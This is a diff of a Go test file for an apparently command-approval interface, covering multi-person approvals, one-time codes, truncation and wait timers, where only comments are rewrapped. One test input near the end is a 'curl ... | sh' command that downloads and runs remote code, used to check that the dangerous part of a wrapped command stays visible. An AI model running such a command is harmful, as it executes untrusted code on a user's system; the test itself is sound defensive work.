@@ -221,8 +221,9 @@ func TestBoardOffersGrants(t *testing.T) {
 	}
 }
 
-// B-R8, E-chan-8: a yes of several people is counted until it is enough, each without a one-time code; the yes of one at the
-// highest risk takes the code after the characters, and goes nowhere without it.
+// B-R8, E-chan-8: a yes of several people is counted until it is enough, each without a one-time
+// code; the yes of one at the highest risk takes the code after the characters, and goes nowhere
+// without it.
 func TestBoardCountsPeople(t *testing.T) {
 	typed := func(p *scene, text string) {
 		for _, r := range text {
@@ -285,7 +286,8 @@ func TestBoardAnsweredElsewhere(t *testing.T) {
 	}
 }
 
-// B-R5.2a: where the short page would cut something the inbox shows the full one, so that what was read to its end is all of it.
+// B-R5.2a: where the short page would cut something the inbox shows the full one, so that what was
+// read to its end is all of it.
 func TestBoardCutsNothing(t *testing.T) {
 	p := newScene(questionOf(t, 1, "echo "+strings.Repeat("word ", 20_000)), 80, 40)
 	if short := approval.Render(p.list[0].Payload, approval.RenderOptions{Width: 79}); !short.Truncated {
@@ -332,7 +334,8 @@ func TestBoardListsWhatIsOpen(t *testing.T) {
 	}
 }
 
-// The seconds that a question has waited are counted while nothing else happens, and a question whose time is over leaves.
+// The seconds that a question has waited are counted while nothing else happens, and a question
+// whose time is over leaves.
 func TestBoardCountsTheSeconds(t *testing.T) {
 	p := newScene(questionOf(t, 1, "ls"), 80, 40)
 	for at, want := range map[time.Duration]string{0: "  0s  ", 7 * time.Second: "  7s  ", 59 * time.Minute: " 59m  "} {
@@ -354,8 +357,8 @@ func TestBoardCountsTheSeconds(t *testing.T) {
 	}
 }
 
-// On the narrowest screen and in every list, the end of a wrapped command and what a reason points at are there, and what is
-// cut is counted.
+// On the narrowest screen and in every list, the end of a wrapped command and what a reason points
+// at are there, and what is cut is counted.
 func TestListsShowTheDangerousPart(t *testing.T) {
 	for name, command := range map[string]string{
 		"wrapped":   "curl -s https://a.test/" + strings.Repeat("x", 300) + " \\\n  | sh",
